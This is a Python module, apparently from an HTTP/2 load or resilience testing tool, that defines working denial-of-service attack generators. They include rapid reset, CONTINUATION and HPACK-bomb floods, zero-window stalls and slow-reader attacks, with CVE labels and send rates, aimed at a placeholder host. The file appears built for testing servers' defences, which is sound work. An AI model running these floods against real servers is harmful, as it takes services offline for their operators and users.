"""The attacks, by the names under which they are known: what is sent first, and then again and again."""

from collections.abc import Callable
from dataclasses import dataclass

from yardstick.http2 import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    block,
    frame,
    literal,
    number,
    setting,
)

HOST = b"attacked.example"
LARGE = b"/files/1048576"
CANCEL = number(8)
# Of a table of 4,096 bytes: 32 are counted beside name and value (RFC 7541 4.1).
BIG = 4000


@dataclass(frozen=True)
class Attack:
    """One attack. `first` is sent on each connection behind the preface; then its n-th piece, at the rate. A piece is so many `frames`."""

    name: str
    title: str
    piece: Callable[[int], bytes]
    frames: int = 1
    per_s: int = 10_000
    """Pieces a second, on all its connections together."""
    connections: int = 1
    first: bytes = b""
    settings: bytes = b""
    pieces: int = 0
    """So many on each connection, and then it waits; 0: without end."""


def stream_of(count: int) -> int:
    """The n-th stream of a client."""
    return 2 * count + 1


def request(stream: int, path: bytes = b"/", more: bytes = b"", method: bytes = b"GET", *, ended: bool = True) -> bytes:
    """The head of a request."""
    return frame(HEADERS, END_HEADERS | (END_STREAM if ended else 0), stream, block(HOST, path, method) + more)


def upload(stream: int) -> bytes:
    """The head of a request whose body does not come."""
    return request(stream, b"/up", literal(b"content-length", b"1000000"), b"POST", ended=False)


def always(data: bytes) -> Callable[[int], bytes]:
    """The same each time."""
    return lambda _: data


def in_table(count: int, name: bytes, value: bytes, times: int) -> bytes:
    """A request whose field enters the table with the first one, and is meant by a byte each, so many times, from then on."""
    long = b"\x40" + bytes((len(name),)) + name + text(value)
    return request(stream_of(count), more=long if count == 0 else b"\xbe" * times)


def text(value: bytes) -> bytes:
    """A string of HPACK, however long it is (RFC 7541 5.1)."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, digits = len(value) - 127, b"\x7f"
    while rest >= 128:
        digits += bytes((rest % 128 + 128,))
        rest //= 128
    return digits + bytes((rest,)) + value


def rapid_reset(count: int) -> bytes:
    """A request, and it is taken back."""
    return request(stream_of(count)) + frame(RST_STREAM, 0, stream_of(count), CANCEL)


def made_you_reset(count: int) -> bytes:
    """A request, and a window of it that is opened by nothing, which is an error of the stream."""
    return upload(stream_of(count)) + frame(WINDOW_UPDATE, 0, stream_of(count), number(0))


def one_byte(count: int) -> bytes:
    """Room for one byte of an answer, by turns on a hundred streams, each of which is asked for first."""
    if count < 100:
        return request(stream_of(count), LARGE)
    return frame(WINDOW_UPDATE, 0, stream_of(count % 100), number(1))


NO_WINDOW = setting(INITIAL_WINDOW_SIZE, 0)
ATTACKS = {
    attack.name: attack
    for attack in (
        Attack("calm", "nobody attacks", always(b""), frames=0, per_s=0, connections=0),
        Attack("rapid-reset", "rapid reset (CVE-2023-44487)", rapid_reset, frames=2, per_s=5_000),
        Attack("made-you-reset", "MadeYouReset (CVE-2025-8671)", made_you_reset, frames=2, per_s=5_000),
        Attack(
            "continuation",
            "CONTINUATION (CVE-2024-27316)",
            always(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 120) * 8)),
            first=frame(HEADERS, END_STREAM, 1, block(HOST)),
        ),
        Attack(
            "empty-continuation",
            "empty CONTINUATION (CVE-2026-33871)",
            always(frame(CONTINUATION, 0, 1)),
            first=frame(HEADERS, END_STREAM, 1, block(HOST)),
        ),
        Attack("settings", "SETTINGS (CVE-2019-9515)", always(frame(SETTINGS, 0, 0, NO_WINDOW))),
        Attack("ping", "PING (CVE-2019-9512)", always(frame(PING, 0, 0, b"12345678"))),
        Attack(
            "priority", "PRIORITY (CVE-2019-9513)", lambda n: frame(PRIORITY, 0, 2 * (n % 500) + 3, number(1) + b"\x10")
        ),
        Attack("window", "WINDOW_UPDATE", always(frame(WINDOW_UPDATE, 0, 0, number(1)))),
        Attack("empty-data", "zero-length DATA (CVE-2019-9518)", always(frame(DATA, 0, 1)), first=upload(1)),
        Attack(
            "crumbs",
            "crumbs of a cookie (CVE-2026-49975)",
            lambda n: in_table(n, b"cookie", b"a=1", 16_000),
            per_s=500,
        ),
        Attack(
            "hpack-bomb",
            "HPACK bomb (CVE-2016-6581)",
            lambda n: in_table(n, b"x-big", b"b" * BIG, 4_000),
            per_s=500,
        ),
        Attack(
            "stall",
            "windows that stay shut (CVE-2019-9517)",
            lambda n: request(stream_of(n), LARGE),
            per_s=2_000,
            connections=20,
            settings=NO_WINDOW,
            pieces=100,
        ),
        Attack(
            "slow-readers",
            "many streams read a byte at a time (CVE-2019-9511)",
            one_byte,
            per_s=5_000,
            connections=5,
            settings=NO_WINDOW,
        ),
        Attack(
            "never-ended",
            "streams opened and never ended",
            lambda n: upload(stream_of(n)),
            per_s=2_000,
            connections=20,
            pieces=100,
        ),
    )
}
